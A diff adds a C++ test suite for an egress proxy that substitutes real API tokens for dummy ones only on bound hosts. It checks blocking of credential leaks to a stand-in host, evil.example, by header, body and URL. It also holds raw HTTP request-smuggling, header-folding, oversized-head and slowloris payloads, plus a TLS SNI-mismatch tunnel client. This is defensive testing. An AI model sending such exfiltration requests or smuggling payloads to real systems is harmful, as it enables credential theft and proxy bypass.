@@ -1,0 +1,327 @@
+// bottle-egress, the native egress engine, as a real process on the host: curl and
+// fake_net.py's client reach it as the agent would, and a fake HTTPS upstream behind
+// a parent proxy standing in for pipelock (fake_net.py serve) logs what it receives,
+// so "never reached upstream" is checked, not assumed. All on 127.0.0.1 with
+// certificates made here. Token values are test strings; assertions test booleans
+// so none is printed.
+#include <catch2/catch.hpp>
+
+#include <optional>
+#include <sstream>
+#include <string>
+#include <vector>
+
+#include "bottle/egress/egress_config.hpp"
+#include "net_harness.hpp"
+
+namespace {
+
+using namespace net_harness;
+
+const std::string codex_dummy = "dummy-codex-access-0001";
+const std::string codex_real = "real-codex-one";
+const std::string bearer = "Authorization: Bearer " + codex_dummy;
+
+struct Reply {
+  int status = 0;
+  std::string body;
+};
+
+// The fake network, a bottle CA, and bottle-egress listening in front of them.
+class NativeEgress {
+ public:
+  // `trust_upstream_ca`: pass the fake upstream's CA as --upstream-ca (without it
+  // only the system roots are trusted, and the fake upstream is not).
+  // `extra`: more bottle-egress arguments.
+  explicit NativeEgress(bool trust_upstream_ca = true, const std::vector<std::string>& extra = {}) {
+    const fs::path& d = dir_.path();
+    write_file(d / "auth.json", R"({"tokens": {"access_token": ")" + codex_real + R"("}})");
+    const auto made = run({"openssl",
+                           "req",
+                           "-x509",
+                           "-newkey",
+                           "ec",
+                           "-pkeyopt",
+                           "ec_paramgen_curve:prime256v1",
+                           "-nodes",
+                           "-keyout",
+                           (d / "ca.key").string(),
+                           "-out",
+                           ca().string(),
+                           "-days",
+                           "2",
+                           "-subj",
+                           "/CN=bottle native egress test CA",
+                           "-addext",
+                           "basicConstraints=critical,CA:TRUE",
+                           "-addext",
+                           "keyUsage=critical,keyCertSign,cRLSign"});
+    INFO(made.err);
+    REQUIRE(made.ok());
+    write_file(d / "ca.pem", read_file(d / "ca.key") + read_file(ca()));
+    write_file(d / "routes.json", bottle::render_egress_routes({{.name = "codex",
+                                                                 .hosts = {"chatgpt.com"},
+                                                                 .header = "Authorization",
+                                                                 .dummy = codex_dummy,
+                                                                 .value_file = (d / "auth.json").string(),
+                                                                 .value_json_pointer = "/tokens/access_token"}}));
+    port_ = free_port();
+    std::vector<std::string> argv = {"env",
+                                     "-u",
+                                     "BOTTLE_EGRESS_UPSTREAM_CA",
+                                     test_paths::bottle_egress,
+                                     "--listen",
+                                     "127.0.0.1:" + std::to_string(port_),
+                                     "--ca",
+                                     (d / "ca.pem").string(),
+                                     "--routes",
+                                     (d / "routes.json").string(),
+                                     "--parent-proxy",
+                                     "http://127.0.0.1:" + std::to_string(net_.parent_port)};
+    if (trust_upstream_ca) argv.insert(argv.end(), {"--upstream-ca", net_.path("ca.pem").string()});
+    argv.insert(argv.end(), extra.begin(), extra.end());
+    egress_.emplace(argv, log());
+    const bool ready = wait_until(
+        [&] { return !egress_->running() || contains(read_file(log()), R"({"event":"ready","listen":"127.0.0.1:)"); },
+        20s);
+    INFO("egress log:\n" << read_file(log()));
+    REQUIRE(ready);
+    REQUIRE(egress_->running());
+  }
+
+  fs::path log() const { return dir_.path() / "egress.log"; }
+  fs::path ca() const { return dir_.path() / "ca-cert.pem"; }
+  std::uint16_t port() const { return port_; }
+
+  Reply curl(const std::string& url, const std::vector<std::string>& extra = {}) const {
+    std::vector<std::string> argv = {"curl",      "-sS",      "--max-time",  "20", "--noproxy",      "", "--proxy",
+                                     proxy_url(), "--cacert", ca().string(), "-w", "\n%{http_code}", url};
+    argv.insert(argv.end(), extra.begin(), extra.end());
+    const auto r = run(argv);
+    INFO("curl stderr: " << r.err);
+    REQUIRE(r.ok());
+    const auto nl = r.out.rfind('\n');
+    return {std::stoi(r.out.substr(nl + 1)), r.out.substr(0, nl)};
+  }
+
+  struct Fetched {
+    int status = 0;
+    std::string raw;
+    double first_data_s = -1;
+    double end_s = -1;
+  };
+  // GET through egress with fake_net.py's TLS client: the raw response as the agent
+  // read it, and when its first body bytes and its end came.
+  Fetched fetch(const std::string& host, const std::string& url_path, const std::string& header,
+                const std::string& value) const {
+    const auto out = dir_.path() / ("fetched-" + std::to_string(++fetches_));
+    const auto r = run({"python3", fake_net_script(), "fetch", std::to_string(port_), ca().string(), host, url_path,
+                        header, value, out.string()});
+    INFO("fetch stderr: " << r.err);
+    REQUIRE(r.ok());
+    const auto o = boost::json::parse(r.out).as_object();
+    Fetched f{.status = static_cast<int>(o.at("status").as_int64()), .raw = read_file(out)};
+    if (o.at("first_data_s").is_double()) f.first_data_s = o.at("first_data_s").as_double();
+    f.end_s = o.at("end_s").as_double();
+    return f;
+  }
+
+  // Header `name` of the request the upstream received for `url_path`; nullopt if it
+  // received none.
+  std::optional<std::string> upstream_header(const std::string& url_path, const std::string& name) const {
+    std::istringstream lines(read_file(net_.path("upstream.log")));
+    for (std::string line; std::getline(lines, line);) {
+      const auto rec = boost::json::parse(line).as_object();
+      if (rec.at("path").as_string() != url_path) continue;
+      const auto& headers = rec.at("headers").as_object();
+      return headers.contains(name) ? std::string(headers.at(name).as_string()) : "<none>";
+    }
+    return std::nullopt;
+  }
+
+  // Raw bytes to egress's proxy port; what it answers until it closes (or 10 s pass:
+  // `closed` says which).
+  std::string raw_exchange(const std::string& bytes, bool* closed = nullptr) const {
+    const int fd = open_connection();
+    REQUIRE(::send(fd, bytes.data(), bytes.size(), 0) == static_cast<ssize_t>(bytes.size()));
+    timeval timeout{.tv_sec = 10, .tv_usec = 0};
+    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
+    std::string out;
+    char buf[4096];
+    ssize_t n = 0;
+    while ((n = ::recv(fd, buf, sizeof buf, 0)) > 0) out.append(buf, static_cast<std::size_t>(n));
+    if (closed != nullptr) *closed = n == 0;
+    ::close(fd);
+    return out;
+  }
+
+  // A TCP connection to egress's proxy port (the caller closes it).
+  int open_connection() const {
+    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
+    const auto addr = loopback(port_);
+    REQUIRE(::connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) == 0);
+    return fd;
+  }
+
+ private:
+  std::string proxy_url() const { return "http://127.0.0.1:" + std::to_string(port_); }
+
+  FakeNet net_;
+  TempDir dir_;
+  std::optional<Daemon> egress_;
+  std::uint16_t port_ = 0;
+  mutable int fetches_ = 0;
+};
+
+}  // namespace
+
+TEST_CASE("bottle-egress: the dummy becomes the real value on the bound host, never elsewhere", "[native-egress]") {
+  NativeEgress egress;
+
+  const auto swapped = egress.curl("https://chatgpt.com/models", {"-H", bearer});
+  CHECK(swapped.status == 200);
+  CHECK(egress.upstream_header("/models", "Authorization") == "Bearer " + codex_real);
+  // The upstream echoes what it received; the agent gets its dummy back, not the value.
+  CHECK_FALSE(contains(swapped.body, codex_real));
+
+  // Kept alive: two requests on one connection, both swapped.
+  const auto both = egress.curl("https://chatgpt.com/one", {"-H", bearer, "https://chatgpt.com/two"});
+  CHECK(egress.upstream_header("/one", "Authorization") == "Bearer " + codex_real);
+  CHECK(egress.upstream_header("/two", "Authorization") == "Bearer " + codex_real);
+
+  // A dummy to a host it is not bound to: 403, never forwarded (header, body, URL).
+  const auto leak = egress.curl("https://evil.example/leak-header", {"-H", bearer});
+  CHECK(leak.status == 403);
+  CHECK(leak.body == "blocked by bottle egress: credential for codex sent to evil.example\n");
+  CHECK(egress.curl("https://evil.example/leak-body", {"--data", "token=" + codex_dummy}).status == 403);
+  CHECK(egress.curl("https://evil.example/leak-url?t=" + codex_dummy).status == 403);
+  // Plain HTTP never carries a dummy, even to the bound host.
+  CHECK(egress.curl("http://chatgpt.com/plain-leak", {"-H", bearer}).status == 403);
+  for (const char* path : {"/leak-header", "/leak-body", "/leak-url", "/plain-leak"}) {
+    INFO(path);
+    CHECK_FALSE(egress.upstream_header(path, "Authorization"));
+  }
+  // No dummy: passed through untouched.
+  CHECK(egress.curl("https://evil.example/clean", {"-H", "Authorization: Bearer other"}).status == 200);
+  CHECK(egress.upstream_header("/clean", "Authorization") == "Bearer other");
+
+  const std::string log = read_file(egress.log());
+  CHECK(contains(log, R"("event":"blocked")"));
+  CHECK_FALSE(contains(log, codex_dummy));
+  CHECK_FALSE(contains(log, codex_real));
+}
+
+TEST_CASE("bottle-egress: a reflected real value comes back as the dummy, and SSE streams live", "[native-egress]") {
+  NativeEgress egress;
+  const std::string value = "Bearer " + codex_dummy;
+
+  const auto header = egress.fetch("chatgpt.com", "/reflect/header", "Authorization", value);
+  CHECK(header.status == 200);
+  CHECK(contains(header.raw, "X-Echo-Authorization: " + value + "\r\n"));
+  const auto plain = egress.fetch("chatgpt.com", "/reflect/plain", "Authorization", value);
+  CHECK(contains(plain.raw, "you sent: " + value + "\n"));
+  CHECK(contains(plain.raw, "Transfer-Encoding: chunked\r\n"));  // the length may change: re-framed
+  const auto json = egress.fetch("chatgpt.com", "/reflect/json", "Authorization", value);
+  CHECK(contains(json.raw, R"({"authorization": ")" + value + R"("})"));
+  const auto split = egress.fetch("chatgpt.com", "/reflect/split", "Authorization", value);
+  CHECK(contains(split.raw, codex_dummy + "\n"));
+  for (const auto* f : {&header, &plain, &json, &split}) CHECK_FALSE(contains(f->raw, codex_real));
+
+  const auto sse = egress.fetch("chatgpt.com", "/reflect/sse", "Authorization", value);
+  CHECK(sse.status == 200);
+  CHECK(contains(sse.raw, "data: first\n\n"));
+  CHECK(contains(sse.raw, "data: " + value + "\n\n"));
+  CHECK_FALSE(contains(sse.raw, codex_real));
+  // The upstream waits 1.5 s between its events: the first one got through before then.
+  CHECK(sse.first_data_s >= 0);
+  CHECK(sse.end_s - sse.first_data_s > 1.0);
+
+  // An encoding the reverse swap cannot scan as it streams: 502, not the body.
+  const auto br = egress.fetch("chatgpt.com", "/reflect/br", "Authorization", value);
+  CHECK(br.status == 502);
+  CHECK_FALSE(contains(br.raw, codex_real));
+}
+
+TEST_CASE("bottle-egress: smuggling and oversized requests are refused before anything is forwarded",
+          "[native-egress]") {
+  NativeEgress egress;
+  const auto conflicting = egress.raw_exchange(
+      "POST http://chatgpt.com/smuggle HTTP/1.1\r\nHost: chatgpt.com\r\nContent-Length: 5\r\n"
+      "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /second HTTP/1.1\r\nHost: chatgpt.com\r\n\r\n");
+  CHECK(conflicting.starts_with("HTTP/1.1 400 "));
+  CHECK(contains(conflicting, "Connection: close\r\n"));
+  const auto folded =
+      egress.raw_exchange("GET http://chatgpt.com/fold HTTP/1.1\r\nHost: chatgpt.com\r\nX-A: one\r\n two\r\n\r\n");
+  CHECK(folded.starts_with("HTTP/1.1 400 "));
+  const auto long_line = egress.raw_exchange("GET http://chatgpt.com/" + std::string(9000, 'a') + " HTTP/1.1\r\n\r\n");
+  CHECK(long_line.starts_with("HTTP/1.1 414 "));
+  // Five 8 KiB fields: each line is within its limit, the head (32 KiB at most) is not.
+  std::string fields;
+  for (const char name : std::string("vwxyz")) fields += std::string(40, name) + ": " + std::string(8000, 'y') + "\r\n";
+  const auto big_head =
+      egress.raw_exchange("GET http://chatgpt.com/big HTTP/1.1\r\nHost: chatgpt.com\r\n" + fields + "\r\n");
+  CHECK(big_head.starts_with("HTTP/1.1 431 "));
+  for (const char* path : {"/smuggle", "/second", "/fold", "/big"}) {
+    INFO(path);
+    CHECK_FALSE(egress.upstream_header(path, "Host"));
+  }
+}
+
+TEST_CASE("bottle-egress: an upstream certificate no trusted CA signed gets 502", "[native-egress]") {
+  NativeEgress egress(false);
+  const auto refused = egress.curl("https://chatgpt.com/untrusted", {"-H", bearer});
+  CHECK(refused.status == 502);
+  CHECK(contains(refused.body, "certificate verify failed"));
+  CHECK_FALSE(egress.upstream_header("/untrusted", "Authorization"));
+}
+
+TEST_CASE("bottle-egress: a head sent too slowly is cut off, and connections past the cap get 503", "[native-egress]") {
+  NativeEgress egress(true, {"--head-timeout", "1", "--max-connections", "1"});
+  // A head that never ends (slowloris): egress closes it after --head-timeout, long
+  // before the 10 s this client waits, and answers nothing.
+  bool closed = false;
+  const auto slow = egress.raw_exchange("GET http://chatgpt.com/slow HTTP/1.1\r\nHost: chat", &closed);
+  CHECK(closed);
+  CHECK(slow.empty());
+  CHECK_FALSE(egress.upstream_header("/slow", "Host"));
+
+  // One connection held open (accepted first: egress accepts in order): the next one
+  // is over the cap.
+  const int held = egress.open_connection();
+  const auto over = egress.raw_exchange("GET http://chatgpt.com/over HTTP/1.1\r\nHost: chatgpt.com\r\n\r\n");
+  CHECK(over.starts_with("HTTP/1.1 503 "));
+  ::close(held);
+  CHECK_FALSE(egress.upstream_header("/over", "Host"));
+}
+
+TEST_CASE("bottle-egress: a TLS server name other than the CONNECT host ends the tunnel", "[native-egress]") {
+  NativeEgress egress;
+  // CONNECT to evil.example, then TLS naming chatgpt.com (the name check is off so the
+  // handshake itself completes): egress serves nothing on that tunnel.
+  const std::string client = R"(
+import socket, ssl, sys
+port, ca, sni = int(sys.argv[1]), sys.argv[2], sys.argv[3]
+sock = socket.create_connection(("127.0.0.1", port), timeout=10)
+sock.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
+reply = b""
+while b"\r\n\r\n" not in reply: reply += sock.recv(1)
+ctx = ssl.create_default_context(cafile=ca)
+ctx.check_hostname = False
+tls = ctx.wrap_socket(sock, server_hostname=sni)
+try:
+    tls.sendall(b"GET /sni-mismatch HTTP/1.1\r\nHost: evil.example\r\n\r\n")
+    print("answered" if tls.recv(100) else "closed")
+except (OSError, ssl.SSLError):
+    print("closed")
+)";
+  const auto mismatch =
+      run({"python3", "-c", client, std::to_string(egress.port()), egress.ca().string(), "chatgpt.com"});
+  INFO(mismatch.err);
+  CHECK(mismatch.out == "closed\n");
+  CHECK_FALSE(egress.upstream_header("/sni-mismatch", "Host"));
+  // The same client naming the CONNECT host is served.
+  const auto match =
+      run({"python3", "-c", client, std::to_string(egress.port()), egress.ca().string(), "evil.example"});
+  CHECK(match.out == "answered\n");
+  CHECK(egress.upstream_header("/sni-mismatch", "Host") == "evil.example");
+}
